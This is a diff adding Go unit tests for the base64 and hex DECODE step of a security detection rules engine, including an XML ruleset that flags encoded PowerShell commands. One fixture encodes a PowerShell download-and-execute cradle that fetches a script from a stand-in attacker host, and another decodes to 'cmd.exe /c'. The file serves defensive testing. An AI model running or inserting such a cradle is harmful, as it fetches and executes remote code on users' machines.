@@ -0,0 +1,77 @@
+package rules_engine
+
+import (
+	"strings"
+	"testing"
+)
+
+const decodeTestRuleset = `
+<root type="DETECTION" name="append-decode">
+  <rule id="r1" name="encoded powershell">
+    <check type="INCL" field="cmdline">-enc</check>
+    <append type="DECODE" encoding="base64" field="decoded_cmd">_$process.enc_arg</append>
+    <check type="INCL" field="decoded_cmd">DownloadString</check>
+  </rule>
+  <rule id="r2" name="hex payload">
+    <check type="NOTNULL" field="payload" />
+    <append type="DECODE" encoding="hex" field="payload_text">_$payload</append>
+  </rule>
+</root>`
+
+func TestAppendDecode_PowerShellEncodedCommand(t *testing.T) {
+	rs := buildRulesetFromXML(t, decodeTestRuleset)
+
+	// powershell.exe -enc, base64 of the UTF-16LE command
+	enc := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAJwApAA=="
+	results := rs.EngineCheck(map[string]interface{}{
+		"cmdline": "powershell.exe -nop -enc " + enc,
+		"process": map[string]interface{}{"enc_arg": enc},
+	})
+	if len(results) != 1 {
+		t.Fatalf("expected the decoded command to match, got %d results", len(results))
+	}
+	if got := results[0]["decoded_cmd"]; got != "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')" {
+		t.Fatalf("unexpected decoded command %q", got)
+	}
+
+	results = rs.EngineCheck(map[string]interface{}{"payload": "0x636d642e657865202f63"})
+	if len(results) != 1 || results[0]["payload_text"] != "cmd.exe /c" {
+		t.Fatalf("unexpected hex decoding %v", results)
+	}
+	if n := rs.GetDecodeFailures(); n != 0 {
+		t.Fatalf("expected no decode failures, got %d", n)
+	}
+}
+
+func TestAppendDecode_MalformedInput(t *testing.T) {
+	rs := buildRulesetFromXML(t, decodeTestRuleset)
+
+	results := rs.EngineCheck(map[string]interface{}{"payload": "not hex at all"})
+	if len(results) != 1 {
+		t.Fatalf("a failed decode must not stop the rule, got %d results", len(results))
+	}
+	if _, ok := results[0]["payload_text"]; ok {
+		t.Fatalf("expected the target to be absent, got %v", results[0]["payload_text"])
+	}
+	// Valid base64, but the decoded bytes are not text
+	if results := rs.EngineCheck(map[string]interface{}{"cmdline": "x -enc", "process": map[string]interface{}{"enc_arg": "/w=="}}); len(results) != 0 {
+		t.Fatalf("expected no match on an undecodable command, got %v", results)
+	}
+	if n := rs.GetDecodeFailures(); n != 2 {
+		t.Fatalf("expected 2 decode failures, got %d", n)
+	}
+}
+
+func TestAppendDecode_Verify(t *testing.T) {
+	for appendElem, want := range map[string]string{
+		`<append type="DECODE" encoding="rot13" field="out">_$a</append>`: "encoding must be 'base64' or 'hex'",
+		`<append type="DECODE" encoding="base64" field="out">a</append>`:  "must reference the encoded field",
+		`<append type="DECODE" field="out">_$a</append>`:                  "encoding must be 'base64' or 'hex'",
+		`<append encoding="hex" field="out">_$a</append>`:                 "encoding only applies to type 'DECODE'",
+	} {
+		xml := `<root type="DETECTION"><rule id="r1"><check type="NOTNULL" field="a" />` + appendElem + `</rule></root>`
+		if _, err := ParseRuleset([]byte(xml)); err == nil || !strings.Contains(err.Error(), want) {
+			t.Fatalf("expected %q for %s, got %v", want, appendElem, err)
+		}
+	}
+}